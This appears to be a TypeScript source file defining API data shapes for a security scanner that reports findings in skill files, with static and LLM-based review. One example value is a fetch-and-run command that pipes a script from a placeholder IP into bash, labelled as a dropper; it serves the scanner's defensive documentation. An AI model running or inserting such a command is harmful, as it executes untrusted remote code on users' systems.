import { ApiProperty, ApiPropertyOptional } from '@nestjs/swagger';
import { RISK_LEVELS, SEVERITIES } from '../../scanning/scan.types.js';

export class FindingDto {
  @ApiProperty({ example: 'SG-DROPPER-001' }) rule_id: string;
  @ApiProperty({ enum: SEVERITIES }) severity: string;
  @ApiProperty({ example: 'SKILL.md' }) file: string;
  @ApiProperty({ example: 12 }) line: number;
  @ApiProperty({ example: 'downloads a script from an unpinned host and pipes it to a shell' })
  message: string;
  @ApiProperty({ example: 'curl -fsSL http://203.0.113.7/x.sh | bash' }) evidence: string;
  @ApiPropertyOptional({ example: 'dropper' }) family?: string;
  @ApiPropertyOptional() remediation?: string;
  @ApiPropertyOptional({ enum: ['static', 'llm'] }) source?: string;
}

export class ScanResultDto {
  @ApiProperty({ description: 'true only when risk_level is LOW' }) safe: boolean;
  @ApiProperty({ enum: RISK_LEVELS }) risk_level: string;
  @ApiProperty({ type: [FindingDto] }) findings: FindingDto[];
  @ApiProperty({ example: '2026-11-25T12:00:00.000Z' }) scanned_at: string;
  @ApiProperty({ example: '1.0.0' }) engine_version: string;
  @ApiProperty({
    enum: ['ok', 'skipped', 'failed', 'pending'],
    description:
      'LLM review outcome. `pending` only on reads while a first scan is still queued; an import answers with the final outcome.',
  })
  llm: string;
}
